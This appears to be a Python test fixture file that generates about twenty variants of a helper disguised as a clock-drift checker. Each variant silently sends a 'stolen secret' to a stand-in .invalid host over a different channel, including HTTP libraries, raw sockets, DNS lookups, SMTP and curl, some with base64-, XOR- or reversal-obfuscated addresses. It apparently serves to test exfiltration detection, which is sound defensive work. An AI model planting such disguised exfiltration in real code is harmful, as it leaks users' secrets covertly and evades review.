"""How a stolen secret leaves: the campaign's helper with one other way of sending each. All inert, all our own."""

from __future__ import annotations

import textwrap
from collections.abc import Mapping

from tests.support.campaign import BACKWARDS, HOST_BACKWARDS, URL, Campaign, campaign, helper


def sent(text: str, imports: str) -> Campaign:
    """The campaign with another second method, of these lines, which may use `self.zone` and `self.stamp`."""
    body = textwrap.indent(textwrap.dedent(text).strip("\n"), " " * 12)
    source = f'''\
"""Tells how far this machine's clock is off."""

{imports}


class DriftChecker:
    def __init__(self, zone, stamp):
        self.zone = zone
        self.stamp = stamp

    def check(self):
        try:
{body}
        except Exception:
            pass
'''
    requires = [name for name in ("aiohttp", "httpx", "requests", "urllib3") if f"import {name}" in imports]
    return Campaign(clone=campaign().clone, helpers=(helper(source, requires=requires),))


#: By what the helper sends it.
LEAVES: Mapping[str, Campaign] = {
    "urllib.request": sent(
        f"""
        body = json.dumps({{"zone": self.zone, "stamp": self.stamp}}).encode()
        request = urllib.request.Request({BACKWARDS}, data=body, method="POST")
        urllib.request.urlopen(request, timeout=3)
        """,
        "import json\nimport urllib.request",
    ),
    "urllib3": sent(
        f"""
        http = urllib3.PoolManager()
        http.request("POST", {BACKWARDS}, body=json.dumps([self.zone, self.stamp]), retries=False)
        """,
        "import json\n\nimport urllib3",
    ),
    "a session": sent(
        f"""
        with requests.Session() as session:
            session.headers["X-Stamp"] = self.stamp
            session.get({BACKWARDS})
        """,
        "import requests",
    ),
    "http.client": sent(
        f"""
        connection = http.client.HTTPSConnection({HOST_BACKWARDS}, timeout=3)
        connection.request("POST", "/v1/check", json.dumps([self.zone, self.stamp]))
        connection.getresponse()
        """,
        "import http.client\nimport json",
    ),
    "aiohttp": sent(
        f"""
        async def post():
            async with aiohttp.ClientSession() as session:
                await session.post({BACKWARDS}, json={{"zone": self.zone, "stamp": self.stamp}})

        asyncio.run(post())
        """,
        "import asyncio\n\nimport aiohttp",
    ),
    "httpx": sent(
        f"""
        with httpx.Client(timeout=3) as client:
            client.post({BACKWARDS}, json={{"zone": self.zone, "stamp": self.stamp}})
        """,
        "import httpx",
    ),
    "a raw socket": sent(
        f"""
        plug = socket.create_connection(({HOST_BACKWARDS}, 8080), timeout=3)
        plug.sendall(f"{{self.zone}}:{{self.stamp}}".encode())
        plug.close()
        """,
        "import socket",
    ),
    "a datagram": sent(
        f"""
        plug = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        plug.sendto(self.stamp.encode(), ({HOST_BACKWARDS}, 53))
        """,
        "import socket",
    ),
    "DNS": sent(
        """
        socket.gethostbyname(f"{self.zone}.{self.stamp}.x.invalid")
        """,
        "import socket",
    ),
    "DNS in hexadecimal": sent(
        """
        label = binascii.hexlify(self.stamp.encode()).decode()
        socket.getaddrinfo(label[:60] + "." + "dilavni.x"[::-1], 80)
        """,
        "import binascii\nimport socket",
    ),
    "base64": sent(
        f"""
        body = base64.b64encode(json.dumps({{"zone": self.zone, "stamp": self.stamp}}).encode("utf-8"))
        requests.post({BACKWARDS}, data=body, headers={{"Content-Type": "text/plain"}})
        """,
        "import base64\nimport json\n\nimport requests",
    ),
    "a query": sent(
        f"""
        query = urlencode([("z", self.zone), ("s", self.stamp)])
        requests.get({BACKWARDS} + "?" + query)
        """,
        "from urllib.parse import urlencode\n\nimport requests",
    ),
    "a path": sent(
        f"""
        requests.get("%s/%s/%s" % ({BACKWARDS}, self.zone, quote(self.stamp)))
        """,
        "from urllib.parse import quote\n\nimport requests",
    ),
    "steps": sent(
        f"""
        payload = {{}}
        payload["when"] = time.time()
        payload.setdefault("zones", []).append(self.zone)
        payload.update({{"stamp": f"<{{self.stamp}}>"}})
        text = json.dumps(payload, indent=1)
        body = bytearray(text.encode("utf-8"))
        packed = zlib.compress(bytes(body))
        requests.request("PUT", {BACKWARDS}, data=packed)
        """,
        "import json\nimport time\nimport zlib\n\nimport requests",
    ),
    "another program": sent(
        f"""
        subprocess.run(["curl", "-s", "-d", json.dumps([self.zone, self.stamp]), {BACKWARDS}], check=False)
        """,
        "import json\nimport subprocess",
    ),
    "a program's input": sent(
        f"""
        curl = subprocess.Popen(["curl", "-s", "--data-binary", "@-", {BACKWARDS}], stdin=subprocess.PIPE)
        curl.communicate(self.stamp.encode())
        """,
        "import subprocess",
    ),
    "mail": sent(
        f"""
        with smtplib.SMTP({HOST_BACKWARDS}) as server:
            server.sendmail("a@x.invalid", ["b@x.invalid"], "Subject: off\\n\\n" + self.stamp)
        """,
        "import smtplib",
    ),
    "an address in base64": sent(
        """
        where = base64.b64decode("aHR0cHM6Ly9kcmlmdC5jbG9jay5pbnZhbGlkL3YxL2NoZWNr").decode()
        requests.post(where, json={"zone": self.zone, "stamp": self.stamp})
        """,
        "import base64\n\nimport requests",
    ),
    "an address in numbers": sent(
        f"""
        where = "".join(chr(one ^ 7) for one in {[ord(char) ^ 7 for char in URL]})
        requests.post(where, json={{"zone": self.zone, "stamp": self.stamp}})
        """,
        "import requests",
    ),
    "an address in pieces": sent(
        """
        parts = ["check", "v1", "invalid", "clock", "drift"]
        where = "https://" + ".".join(parts[:1:-1]) + "/" + "/".join(reversed(parts[:2]))
        requests.post(where, json={"zone": self.zone, "stamp": self.stamp})
        """,
        "import requests",
    ),
}
